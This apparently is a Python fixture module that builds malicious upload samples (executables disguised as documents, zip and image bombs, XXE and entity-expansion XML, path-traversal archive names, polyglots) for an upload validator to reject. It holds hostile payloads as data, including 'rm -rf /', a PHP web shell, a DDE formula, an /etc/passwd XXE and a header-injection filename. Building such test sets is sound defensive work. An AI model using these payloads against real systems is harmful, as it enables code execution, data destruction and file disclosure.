"""Files that nobody should hand in, each made here: bombs, polyglots, XML that unfolds, lying lengths, programs, ..."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

TYPES = b'<?xml version="1.0"?><Types/>'
TEXT = b'<?xml version="1.0"?><w:document/>'
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
ONE_PIXEL = b"\0\0\0\1\0\0\0\1\x08\0\0\0\0"
Named = tuple[str, bytes]


def png(header: bytes = ONE_PIXEL, *, end: bytes = b"\0\0\0\0IEND\xaeB`\x82") -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(header)) + b"IHDR" + header + bytes(4) + end


def jpg(height: int = 1, width: int = 1, *, end: bytes = b"\xff\xd9") -> bytes:
    frame = b"\xff\xc0\0\x0b\x08" + struct.pack(">HH", height, width) + b"\1\1\x11\0"
    return b"\xff\xd8" + frame + b"\xff\xda\0\x08\1\1\0\0\x3f\0\0" + end


def packed(*members: tuple[str | zipfile.ZipInfo, bytes], kind: str = "word/document.xml") -> bytes:
    """A document of this kind with these members besides."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        for name, content in members:
            archive.writestr(name, content)
        if kind not in {name for name, _ in members}:
            archive.writestr(kind, TEXT)
    return file.getvalue()


def programs() -> Iterator[Named]:
    heads = (b"MZ\x90\0" + bytes(60), b"\x7fELF\2\1\1", b"#!/bin/sh\nrm -rf /", b"\xca\xfe\xba\xbe\0\0\0\x34",
             b"\xfe\xed\xfa\xce", b"@echo off\r\ndel *", b"L\0\0\0\1\x14\2\0",
             b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")  # fmt: skip
    for n, head in enumerate(heads):
        for ending in ("pdf", "docx", "png"):
            yield f"program-{n}.{ending}", head + b"\0" * 300


def texts() -> Iterator[Named]:
    bodies = (
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", b"<html><script>alert(1)</script>",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", b"GIF89a=1;alert(1)",
        b"{\\rtf1{\\object\\objdata 0105}}", b"<?php system($_GET['c']); ?>", b"=cmd|'/C calc'!A0",
        b"MIME-Version: 1.0\r\n",
        b"II*\0" + bytes(40), b"RIFF\0\0\0\0WEBPVP8 ", b"\0\0\0\x20ftypheic", b"%!PS-Adobe-3.0\n", b"",
    )  # fmt: skip
    for n, body in enumerate(bodies):
        for ending in ("pdf", "jpg"):
            yield f"text-{n}.{ending}", body


def names() -> Iterator[Named]:
    odd = ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\windows\\x", "C:/x", "word/../../x", "word/vbaProject.bin",
           "xl/vbaproject.bin", "a.exe", "b.JS", "c.vbs", "d.ps1", "e.hta",
           "f.lnk", "g.jar", "h.bat", "i.scr")  # fmt: skip
    for n, name in enumerate(odd):
        yield f"name-{n}.docx", packed((name, b"x"))
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    yield "link.docx", packed((link, b"/etc/passwd"))
    yield "twice.docx", packed(("word/Document.xml", TEXT), ("word/document.xml", TEXT))


def xml() -> Iterator[Named]:
    laughs = b"<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]><l>&c;</l>"
    entities = (
        b"<!DOCTYPE x SYSTEM 'http://example.invalid/x.dtd'><x/>", b"<!doctype x><x/>", laughs,
        b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'file:///etc/hostname'>%p;]><x/>", b"<x><!ENTITY a 'b'></x>",
        b"<?xml version='1.0' encoding='utf-7'?>+ADw-+ACE-DOCTYPE x+AD4-",
        b"<?xml version='1.0' encoding='cp037'?>\x4c",
        b"x" * (1 << 20) + b"<!DOCTYPE x>", b"x" * ((1 << 20) - 4) + b"<!DOCTYPE x>",
    )  # fmt: skip
    for n, body in enumerate(entities):
        for member in ("word/document.xml", "word/_rels/document.xml.rels", "customXml/item1.xml"):
            yield f"xml-{n}-{len(member)}.docx", packed((member, body))
        yield f"xml-{n}.xlsx", packed(("xl/workbook.xml", body), kind="xl/workbook.xml")
        yield f"xml-{n}-wide.docx", packed(("word/document.xml", body.decode("latin-1").encode("utf-16")))
    template = (
        b'<Relationship Type="http://x/attachedTemplate" Target="http://example.invalid/t" TargetMode="External"/>'
    )
    yield "template.docx", packed(("word/_rels/settings.xml.rels", template))


def bombs() -> Iterator[Named]:
    yield "zeros.docx", packed(("word/media/x.bin", bytes(30_000_000)))
    yield "crowd.xlsx", packed(*((f"m{n}", b"") for n in range(2_100)), kind="xl/workbook.xml")
    inner = packed(("word/x", bytes(1_000_000)))
    yield "nested.docx", packed(("word/embeddings/a.docx", packed(("word/embeddings/b.docx", inner))))
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w") as archive:
        archive.writestr("x", "y")
    for n, head in enumerate(
        (plain.getvalue(), b"Rar!\x1a\7\0", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08\0", b"BZh9", b"MZ\x90")
    ):
        yield f"inside-{n}.docx", packed(("word/embeddings/inside.bin", head + bytes(40)))
    for n, size in enumerate(((0, 1), (1, 0), (60_000, 60_000), (2**31 - 1, 1), (1, 2**32 - 1), (29_999, 29_999))):
        yield f"huge-{n}.png", png(struct.pack(">II", *size) + b"\x08\0\0\0\0")
    for n, (height, width) in enumerate(((0, 1), (65_000, 65_000), (65_535, 1), (29_999, 29_999))):
        yield f"huge-{n}.jpg", jpg(height, width)


def broken() -> Iterator[Named]:
    good = packed(("word/styles.xml", TEXT * 20))
    for cut in (3, 30, 100, len(good) // 2, len(good) - 30, len(good) - 1):
        yield f"cut-{cut}.docx", good[:cut]
    yield "tail.docx", good + b"<script>alert(1)</script>"
    yield "comment.docx", good[:-2] + b"\5\0hello"
    for n, lie in enumerate((1, 10, 2**31)):
        yield f"lying-{n}.docx", _lying(good, lie)
    yield "crc.docx", good.replace(struct.pack("<I", zlib.crc32(TEXT)), b"\1\2\3\4")
    yield (
        "locked.docx",
        good.replace(b"PK\3\4\x14\0\0\0", b"PK\3\4\x14\0\1\0").replace(
            b"PK\1\2\x14\3\x14\0\0", b"PK\1\2\x14\3\x14\0\1"
        ),
    )
    for n, cut in enumerate((PDF[:-8], PDF[:20], b"%PDF-1.7", b"\n" + PDF, b"<html>" + PDF, PDF + b"x" * 5_000)):
        yield f"cut-{n}.pdf", cut
    yield "both.pdf", PDF + packed() + b""
    yield "both-2.pdf", b"%PDF-1.7\n" + packed()[:-2] + struct.pack("<H", 6) + b"%%EOF\n"
    for n, cut in enumerate(
        (png(end=b""), png()[:20], png(b""), png(end=b"\xff\xff\xff\xffIDAT"), b"\x89PNG\r\n\x1a\n")
    ):
        yield f"cut-{n}.png", cut
    for n, cut in enumerate((jpg(end=b""), jpg()[:8], b"\xff\xd8\xff\xd9", b"\xff\xd8\xff\xe0\xff\xff")):
        yield f"cut-{n}.jpg", cut


def _lying(document: bytes, size: int) -> bytes:
    """The directory says another unpacked length than there is."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        true = archive.getinfo("word/styles.xml").file_size
    return document.replace(struct.pack("<I", true) + b"\x0f\0", struct.pack("<I", size) + b"\x0f\0")


def inert() -> Iterator[Named]:
    """Kept as they are, because nothing in them can run from here: shown in a sandbox, or handed over to be saved."""
    yield "script.pdf", PDF[:-6] + b"<</S/JavaScript/JS(app.alert\\(1\\))>>\n%%EOF\n"
    yield "html.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n"
    yield "html.png", png() + b"<script>alert(1)</script>"
    yield "html.jpg", jpg() + b"<script>alert(1)</script>"
    yield "a\u202efdp.exe", PDF + b"%1"
    yield "../../申请表.pdf", PDF + b"%2"
    yield 'x"; filename="evil.html\r\nSet-Cookie: a=b.pdf', PDF + b"%3"
    yield "申" * 10_000 + ".pdf", PDF + b"%4"
    yield "<img src=x onerror=alert(1)>.pdf", PDF + b"%5"
    yield "=cmd|'/C calc'!A0.xlsx", packed(("xl/x.xml", b"<x/>"), kind="xl/workbook.xml")
    yield "letter with a sheet.docx", packed(("word/embeddings/s.xlsx", packed(kind="xl/workbook.xml")))


REFUSED = [*programs(), *texts(), *names(), *xml(), *bombs(), *broken()]
INERT = list(inert())
